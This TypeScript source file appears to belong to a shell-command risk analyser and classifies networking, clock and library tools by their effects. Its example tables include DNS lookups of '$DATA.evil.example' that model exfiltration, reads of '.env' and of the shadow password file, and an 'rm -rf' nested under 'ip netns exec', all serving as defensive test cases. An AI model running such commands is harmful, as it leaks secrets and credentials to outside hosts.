import { defineProgram, type Call, type Found } from '../define.ts';
import { headOf } from '../words.ts';

const setting =
  /^(add|del|delete|set|flush|change|replace|append|up|down|netmask|mtu|addbr|delbr|connect|disconnect|modify|restore)$/;
/** The second word of ip may be shortened; `s` alone shows. */
const begun = /^(?:a|ad|d|de|del.*|se|f|fl.*|c|ch.*|r|re|rep.*|ap.*|restore)$/;

function interfaces({ operands }: Pick<Call, 'operands'>, found: Found): void {
  if (operands.some((word) => setting.test(headOf(word))))
    found.effect({ kind: 'change', thing: 'firewall', note: 'a network interface' });
}

/** The clock, the network and the libraries of the machine. */
export const machine = [
  defineProgram({
    names: 'ip',
    summary: 'Shows and sets network interfaces.',
    style: 'posix',
    quiet: true,
    options: {
      '-b -batch --batch=': 'read + change firewall: a file of commands',
      '-n -netns --netns -f -family --family -l -loops -rc -rcvbuf=': 'text',
      '-a -all --all': 'flag',
      '-4 -6 -0 -s -d -r -j -p -o -t -h -c -M -B -N -br -ts -iec -json -pretty -brief -oneline -color -details': 'text',
      '-V -Version': 'help',
    },
    inspect(call, found) {
      const [object, verb] = call.operands.map((word) => headOf(word));
      // `ip netns exec name program`, and `ip -all netns exec program`.
      if (/^(?:netn|vr)/.test(object ?? '') && verb?.startsWith('e') === true) {
        const words = call.operands.slice(call.has('-a') ? 2 : 3);
        if (words.length > 0) found.nest({ kind: 'argv', via: 'ip', words });
      } else if (begun.test(verb ?? ''))
        found.effect({ kind: 'change', thing: 'firewall', note: 'a network interface' });
      else interfaces(call, found);
    },
    examples: {
      'ip -4 addr show': 'quiet',
      'ip -br a': 'quiet',
      'ip a s': 'quiet',
      'ip route get 1.1.1.1': 'quiet',
      'ip link set eth0 down': 'change firewall',
      'ip r d default': 'change firewall',
      'ip netns exec x rm -rf build': 'quiet, > rm -rf build',
      'ip -all netns exec rm y': 'quiet, > rm y',
      'ip -b x': 'read x, change firewall x',
    },
  }),
  defineProgram({
    names: 'ifconfig route arp iw iwconfig nmcli networksetup ethtool brctl ipconfig',
    summary: 'Show and set network interfaces.',
    quiet: true,
    options: { '-f=': 'read', '-s --change --set-eee --reset -K -G -A -C -L -U -X': 'flag' },
    inspect: interfaces,
    examples: { ifconfig: 'quiet', 'ifconfig eth0 down': 'change firewall', 'arp -f .env': 'quiet, read .env' },
  }),
  defineProgram({
    names: 'resolvectl systemd-resolve',
    summary: 'Asks and sets how names are looked up.',
    quiet: true,
    subs: {
      'status statistics dns domain default-route llmnr mdns dnssec dnsovertls nta log-level show-cache': {
        quiet: true,
        also: [{ if: 'second', effects: 'change firewall: how names are looked up' }],
      },
      'query service openpgp tlsa': { operands: 'contact: network tool' },
      'flush-caches reset-statistics reset-server-features revert': 'change firewall: how names are looked up',
      monitor: 'quiet',
    },
    otherwise: { operands: 'contact: network tool' },
    examples: {
      'resolvectl status': 'quiet',
      'resolvectl query $DATA.evil.example': 'contact ….evil.example',
      'resolvectl dns eth0 1.1.1.1': 'change firewall eth0',
    },
  }),
  defineProgram({
    names: 'ss',
    summary: 'Shows connections, and may close them.',
    quiet: true,
    options: {
      '-K --kill': 'change process force: closes connections',
      '-D --diag=': 'write',
      '-F --filter=': 'read',
      '-f --family -A --query --socket -N --net=': 'text',
      '-h -V': 'help',
    },
    examples: {
      'ss -tlnp': 'quiet',
      'ss -K dst 1.2.3.4': 'change process dst force',
      'ss -D ../x': 'write ../x',
      'ss -F .env': 'quiet, read .env',
    },
  }),
  defineProgram({
    names: 'hwclock',
    summary: 'Shows and sets the clock of the machine.',
    quiet: true,
    options: {
      '-w --systohc -s --hctosys --set --adjust --systz -a': 'change kernel: the clock',
      '--setepoch --param-set --vl-clear -c': 'change kernel: the clock',
      '--adjfile=': 'read + write',
      '-f --rtc --date --epoch --delay --param-get=': 'text',
      '-r -u -l --show --get --utc --localtime --predict -v --verbose -D --test --update-drift --noadjfile': 'text',
    },
    examples: {
      hwclock: 'quiet',
      'hwclock -r': 'quiet',
      'hwclock -w': 'change kernel',
      'hwclock --set --date now': 'change kernel',
    },
  }),
  defineProgram({
    names: 'ntpd chronyd sntp rdate openntpd',
    summary: 'Set the clock by those of others.',
    options: { '-f -c --configfile -i -l -p -u=': 'text', '-v --version': 'help' },
    effects: 'contact + change kernel: the clock',
    examples: { 'ntpd -q': 'contact, change kernel', 'chronyd --version': 'quiet' },
  }),
  defineProgram({
    names: 'ldconfig',
    summary: 'Writes the list of libraries that all programs look in.',
    quiet: true,
    options: { '-p --print-cache': 'flag', '-C=': 'write', '-f=': 'read', '-r=': 'folder', '-V': 'help' },
    also: [{ if: '!-p', effects: 'change settings force: of the machine' }],
    examples: {
      'ldconfig -p': 'quiet',
      ldconfig: 'change settings force',
      'ldconfig -C ../x': 'write ../x, change settings force',
    },
  }),
  defineProgram({
    names: 'getent',
    summary: 'Asks for people, services and hosts.',
    quiet: true,
    style: 'posix',
    options: { '-s --service=': 'text', '-i --no-idn -A --no-addrconfig': 'text' },
    subs: {
      'hosts ahosts ahostsv4 ahostsv6': { operands: 'contact: network tool' },
      'shadow gshadow': 'read: secrets of people',
    },
    otherwise: 'text',
    examples: {
      'getent passwd root': '',
      'getent hosts $DATA.evil.example': 'contact ….evil.example',
      'getent hosts': '',
      'getent shadow root': 'read',
    },
  }),
];
